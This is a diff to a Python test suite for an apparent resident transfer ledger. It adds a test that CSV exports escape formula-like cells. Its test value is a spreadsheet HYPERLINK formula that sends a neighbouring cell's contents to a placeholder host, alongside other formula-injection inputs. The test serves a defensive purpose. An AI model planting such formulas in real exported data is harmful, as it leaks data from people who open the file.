@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import io
 import json
 import sqlite3
 import threading
@@ -24,7 +25,7 @@ from liftctl.places import Places
 from liftctl.recorder import erasure
 from liftctl.recorder.checkpoint import parse
 from liftctl.recorder.entries import Entry
-from liftctl.recorder.export import as_counts, chosen
+from liftctl.recorder.export import as_counts, as_table, chosen
 from liftctl.recorder.ledger import Ledger
 from liftctl.recorder.reader import read_transfers
 from liftctl.recorder.shell import Recorder
@@ -202,6 +203,15 @@ def test_an_export_leaves_out_what_staff_wrote(places: Places, tmp_path: Path) -
     assert (row["id"], row["phases.end"], "note" in row) == ("t", "90.0", False)
     assert run("export", places.ledger, "--since", "2026-11-02").stdout == ""
     assert run("export", places.ledger, "--format", "xml").exit_code == 2
+
+
+def test_no_cell_of_the_ledgers_csv_is_a_formula() -> None:
+    evil = '=HYPERLINK("http://x/?"&A2,"click")'
+    told = {"id": "t", "note": evil, "reason": "+1+1", "kind": "@SUM(A1)", "elapsed_s": -1.5}
+    text = "".join(as_table([told]))
+    (row,) = csv.DictReader(io.StringIO(text))
+    assert (row["note"], row["reason"], row["kind"]) == (f"'{evil}", "'+1+1", "'@SUM(A1)")
+    assert row["elapsed_s"] == "-1.5", "a number stays a number"
 
 
 def test_a_count_with_fewer_than_five_residents_behind_it_is_not_told() -> None:
